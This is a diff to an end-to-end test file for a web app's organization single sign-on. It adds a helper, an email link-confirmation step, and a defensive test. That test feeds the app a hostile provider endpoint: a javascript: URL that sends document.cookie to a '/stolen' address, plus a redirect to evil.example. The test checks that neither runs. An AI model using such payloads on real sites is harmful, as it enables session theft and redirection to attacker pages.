@@ -35,6 +35,18 @@ test.afterAll(() => {
   provider?.kill();
 });
 
+/** The OWNER on `page` saves the test provider as the organization's single sign-on. */
+async function saveProvider(page: Page, home: string) {
+  await page.goto(`${home}/settings#sso`);
+  await hydrated(page);
+  await page.locator('#sso').getByLabel(t('sso.issuer')).fill(issuer);
+  await page.locator('#sso').getByLabel(t('sso.client_id')).fill('muster');
+  await page.locator('#sso').getByLabel(t('sso.client_secret')).fill(CLIENT_SECRET);
+  await page.locator('#sso').getByRole('button', { name: t('sso.save'), exact: true }).click();
+  await expect(page.getByTestId('sso-done')).toHaveText(t('sso.saved'));
+  await hydrated(page);
+}
+
 /** At the provider's sign-in page: signs in there as `email`. */
 async function signInAtProvider(page: Page, email: string) {
   await expect(page.getByRole('heading', { name: 'Test provider' })).toBeVisible();
@@ -101,14 +113,7 @@ test('with "Require single sign-on", a member\'s password sign-in is sent to the
   const home = await activateOrganization(page, 'en', 'Strict SSO Co', owner);
   const domain = `${owner.split('@')[0].replace(/[^a-z0-9-]/g, '-')}.example`;
   await verifyDomain(page, home, domain);
-  await page.goto(`${home}/settings#sso`);
-  await hydrated(page);
-  await page.locator('#sso').getByLabel(t('sso.issuer')).fill(issuer);
-  await page.locator('#sso').getByLabel(t('sso.client_id')).fill('muster');
-  await page.locator('#sso').getByLabel(t('sso.client_secret')).fill(CLIENT_SECRET);
-  await page.locator('#sso').getByRole('button', { name: t('sso.save'), exact: true }).click();
-  await expect(page.getByTestId('sso-done')).toHaveText(t('sso.saved'));
-  await hydrated(page);
+  await saveProvider(page, home);
 
   // Pat was invited and chose a password before single sign-on was required.
   const pat = `pat@${domain}`;
@@ -144,6 +149,14 @@ test('with "Require single sign-on", a member\'s password sign-in is sent to the
   await patPage.getByLabel(t('auth.password')).fill(PASSWORD);
   await patPage.getByRole('button', { name: t('auth.sign_in'), exact: true }).click();
   await signInAtProvider(patPage, pat);
+  // Her account existed before: the provider is linked to it only when she confirms, in
+  // this browser, the link mailed to her.
+  await expect(patPage.getByTestId('sso-problem')).toHaveText(t('sso.confirm_link_sent'));
+  await hydrated(patPage);
+  const confirm = await linkFromMailbox(page, pat, t('email.sso_link.subject', { org: 'Strict SSO Co' }));
+  await patPage.goto(confirm);
+  await expect(patPage.getByRole('heading', { name: t('sso.link_title', { org: 'Strict SSO Co' }) })).toBeVisible();
+  await patPage.getByRole('button', { name: t('sso.link_confirm') }).click();
   await expect(patPage).toHaveURL(new RegExp(`${home}$`));
   await expect(patPage.getByText(t('org.your_role', { role: t('roles.editor') }))).toBeVisible();
   await hydrated(patPage);
@@ -159,4 +172,41 @@ test('with "Require single sign-on", a member\'s password sign-in is sent to the
   await page.goto(home);
   await expect(page.getByText(t('org.your_role', { role: t('roles.owner') }))).toBeVisible();
   await hydrated(page);
+});
+
+test('a signed-in visitor who opens a hostile organization\'s single sign-on link runs no script and reaches no other site', async ({ page }) => {
+  test.setTimeout(240_000);
+  const owner = uniqueEmail('sso-hostile');
+  const home = await activateOrganization(page, 'en', 'Hostile Co', owner);
+  const domain = `${owner.split('@')[0].replace(/[^a-z0-9-]/g, '-')}.example`;
+  await verifyDomain(page, home, domain);
+  await saveProvider(page, home);
+
+  // After saving, the organization's provider names a script, then a foreign site, as
+  // its sign-in page. The visitor (signed in to Muster, as the owner here) opens a
+  // genuine Muster link for that organization.
+  const base = new URL(process.env.BASE_URL ?? 'http://127.0.0.1:3000').origin;
+  const reached = new Set<string>();
+  page.on('request', (request) => reached.add(new URL(request.url()).origin));
+  let dialogs = 0;
+  page.on('dialog', (dialog) => { dialogs += 1; void dialog.dismiss(); });
+  try {
+    for (const endpoint of [
+      "javascript:alert(document.domain);fetch('http://127.0.0.9:9/stolen?'+document.cookie)",
+      'https://evil.example/authorize',
+    ]) {
+      const res = await fetch(`${issuer}/__test/discovery`, {
+        method: 'POST', body: JSON.stringify({ authorization_endpoint: endpoint }),
+      });
+      expect(res.status).toBe(204);
+      await page.goto(`/sso/start?email=${encodeURIComponent(`visitor@${domain}`)}`);
+      await expect(page).toHaveURL(/\/signin\?sso=provider$/);
+      await expect(page.getByTestId('sso-problem')).toHaveText(t('sso.problem_provider'));
+      await hydrated(page);
+    }
+  } finally {
+    await fetch(`${issuer}/__test/discovery`, { method: 'POST', body: '{}' });
+  }
+  expect(dialogs, 'no script ran').toBe(0);
+  expect([...reached].filter((origin) => origin !== base), 'no other site was reached').toEqual([]);
 });
